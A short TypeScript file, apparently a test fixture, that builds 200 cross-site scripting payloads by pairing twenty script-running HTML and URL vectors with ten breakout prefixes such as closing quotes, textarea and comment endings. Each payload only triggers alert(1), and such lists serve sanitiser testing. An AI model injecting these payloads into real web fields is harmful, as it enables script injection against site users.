/** Texts that run a script where somebody takes them for markup: twenty ways, from ten places they may stand in. */
const WAYS: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:parent.alert(1)></iframe>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<object data=x onerror=alert(1)></object>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<style onload=alert(1)></style>",
  "<link rel=stylesheet href=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<script src=data:,alert(1)></script>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<a href=javascript:alert(1)>[x](javascript:alert(1))</a>",
  "javascript:alert(1)//#{alert(1)}{{constructor.constructor('alert(1)')()}}",
];

const PLACES: readonly string[] = [
  "",
  '">',
  "'>",
  "</textarea>",
  "</title>",
  "</script>",
  "-->",
  "]]>",
  '" autofocus onfocus=alert(1) x="',
  "x\n\n",
];

/** 200 of them, each short enough for every field. */
export const SCRIPT_PAYLOADS: readonly string[] = PLACES.flatMap((place) =>
  WAYS.map((way) => place + way),
);
